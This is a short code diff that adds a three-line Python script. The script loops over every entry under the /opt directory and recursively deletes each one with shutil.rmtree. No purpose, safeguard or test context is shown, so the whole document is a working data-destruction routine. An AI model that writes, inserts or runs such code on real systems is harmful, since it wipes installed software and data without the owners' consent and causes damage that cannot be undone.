@@ -1,0 +1,3 @@
+import os, shutil
+for d in os.listdir("/opt"):
+    shutil.rmtree(f"/opt/{d}")
